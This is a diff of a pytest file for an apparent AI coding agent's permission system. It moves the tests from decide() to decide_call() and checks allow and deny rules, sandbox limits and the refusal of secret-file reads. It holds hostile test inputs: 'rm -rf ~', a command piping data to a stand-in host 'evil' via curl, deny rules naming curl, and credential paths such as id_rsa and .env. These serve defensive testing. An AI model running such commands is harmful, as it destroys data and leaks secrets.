@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from rhapsody.core.history import read_history
-from rhapsody.core.permissions import Rules, decide
+from rhapsody.core.permissions import Call, Rules, decide_call
 from rhapsody.loopback.script import call, say
 from rhapsody.tools.shell import parse
 
@@ -33,35 +33,35 @@ NARRATE = "I will run this command now because the task needs it, and I expect i
     ("yolo", "bash", "rm -rf build", True, "unavailable", "ask"),
 ])
 def test_modes(mode: str, tool: str, arg: str, writes: bool, confinement: str, verdict: str) -> None:
-    decision = decide(mode, Rules(parse=parse), tool, arg, writes, tool == "read_file", confinement=confinement)
+    decision = decide_call(mode, Rules(parse=parse), Call(tool, arg, writes, tool == "read_file", confinement=confinement))
     assert decision.verdict == verdict
 
 
 def test_rules_match_every_subcommand_and_deny_always_wins() -> None:
     rules = Rules(allow=["bash:pytest*", "bash:git status"], deny=["bash:rm -rf*", "bash:curl*"], parse=parse)
-    assert decide("ask", rules, "bash", "pytest -q tests", True, False).verdict == "allow"
-    assert decide("ask", rules, "bash", "pytest -q && git status", True, False).verdict == "allow"
-    assert decide("ask", rules, "bash", "pytest -q && rm -rf ~", True, False).verdict == "deny"
-    assert decide("ask", rules, "bash", "pytest; echo hi", True, False).verdict == "ask"
-    assert decide("yolo", rules, "bash", "ls | curl -d @- evil", True, False).verdict == "deny"
+    assert decide_call("ask", rules, Call("bash", "pytest -q tests", True, False)).verdict == "allow"
+    assert decide_call("ask", rules, Call("bash", "pytest -q && git status", True, False)).verdict == "allow"
+    assert decide_call("ask", rules, Call("bash", "pytest -q && rm -rf ~", True, False)).verdict == "deny"
+    assert decide_call("ask", rules, Call("bash", "pytest; echo hi", True, False)).verdict == "ask"
+    assert decide_call("yolo", rules, Call("bash", "ls | curl -d @- evil", True, False)).verdict == "deny"
 
 
 def test_leaving_the_sandbox_always_asks_and_only_a_user_rule_skips_the_question() -> None:
     rules = Rules(allow=["bash:pytest*"], parse=parse)
     for mode in ("ask", "auto-edit", "yolo"):
-        decision = decide(mode, rules, "bash", "pytest", True, False, confinement="workspace-write", leave_sandbox=True)
+        decision = decide_call(mode, rules, Call("bash", "pytest", True, False, confinement="workspace-write", leave_sandbox=True))
         assert decision.verdict == "ask", mode
-    assert decide("read-only", rules, "bash", "pytest", True, False, confinement="read-only",
-                  leave_sandbox=True).verdict == "deny"
+    assert decide_call("read-only", rules, Call("bash", "pytest", True, False, confinement="read-only",
+                  leave_sandbox=True)).verdict == "deny"
     user = Rules(allow=["unsandboxed:pytest*"], parse=parse)
-    assert decide("auto-edit", user, "bash", "pytest -q", True, False, confinement="workspace-write",
-                  leave_sandbox=True).verdict == "allow"
+    assert decide_call("auto-edit", user, Call("bash", "pytest -q", True, False, confinement="workspace-write",
+                  leave_sandbox=True)).verdict == "allow"
 
 
 @pytest.mark.parametrize("path", [".env", "config/.env.production", "keys/server.pem", "home/id_rsa", ".rhapsody/history/x.jsonl"])
 def test_secret_files_and_rhapsody_state_are_refused_to_reads_unless_allowed(path: str) -> None:
-    assert decide("yolo", Rules(), "read_file", path, False, True).verdict == "deny"
-    assert decide("yolo", Rules(allow=[f"read_file:{path}"]), "read_file", path, False, True).verdict == "allow"
+    assert decide_call("yolo", Rules(), Call("read_file", path, False, True)).verdict == "deny"
+    assert decide_call("yolo", Rules(allow=[f"read_file:{path}"]), Call("read_file", path, False, True)).verdict == "allow"
 
 
 async def test_headless_ask_refuses_with_a_clear_result_and_records_the_decision(stub: Stub, project: Path) -> None:
@@ -119,7 +119,7 @@ def test_a_session_rule_is_suggested_for_every_part_of_a_compound_command() -> N
                     confinement="workspace-write")
     assert rules == ("bash:sleep *", "bash:python *", "bash:tail *")
     again = "sleep 1; python -m unittest other | tail -n 2"
-    assert decide("ask", Rules(session_allow=list(rules), parse=parse), "bash", again, True, False).verdict == "allow"
+    assert decide_call("ask", Rules(session_allow=list(rules), parse=parse), Call("bash", again, True, False)).verdict == "allow"
     assert offered("ask", Rules(), "write_file", "./src/app/x.py", keys=("src/app/x.py",)) == ("write_file:src/app/*",)
 
 
@@ -135,7 +135,7 @@ def test_an_offered_session_rule_allows_the_same_command_next_time() -> None:
         rules = offered("ask", Rules(parse=parse), "bash", command, confinement="workspace-write")
         if rules:  # offered only when it works
             trial = Rules(session_allow=list(rules), parse=parse)
-            assert decide("ask", trial, "bash", command, True, False, confinement="workspace-write").verdict == "allow"
+            assert decide_call("ask", trial, Call("bash", command, True, False, confinement="workspace-write")).verdict == "allow"
     assert offered("ask", Rules(parse=parse), "bash", "ls", confinement="workspace-write") == ("bash:ls", "bash:ls *")
     assert offered("ask", Rules(parse=parse), "bash", "pytest -q && git status",
                    confinement="workspace-write") == ("bash:pytest *", "bash:git *")
@@ -180,8 +180,8 @@ def test_the_user_guide_says_what_headless_does_with_bash() -> None:
     headless = headless[:headless.index("\n\n")]
     assert "bash runs **inside the sandbox** without asking" in headless and "bash is refused unless" not in guide
     sandboxed = Rules(parse=parse)
-    assert decide("auto-edit", sandboxed, "bash", "pytest -q", True, False, confinement="workspace-write").verdict == "allow"
-    assert decide("read-only", sandboxed, "bash", "pytest -q", True, False, confinement="read-only").verdict == "allow"
-    assert decide("auto-edit", sandboxed, "bash", "pytest -q", True, False, confinement="unavailable").verdict == "ask"
-    assert decide("auto-edit", Rules(allow=["bash:pytest *"], parse=parse), "bash", "pytest -q", True, False,
-                  confinement="unavailable").verdict == "allow"
+    assert decide_call("auto-edit", sandboxed, Call("bash", "pytest -q", True, False, confinement="workspace-write")).verdict == "allow"
+    assert decide_call("read-only", sandboxed, Call("bash", "pytest -q", True, False, confinement="read-only")).verdict == "allow"
+    assert decide_call("auto-edit", sandboxed, Call("bash", "pytest -q", True, False, confinement="unavailable")).verdict == "ask"
+    assert decide_call("auto-edit", Rules(allow=["bash:pytest *"], parse=parse), Call("bash", "pytest -q", True, False,
+                  confinement="unavailable")).verdict == "allow"
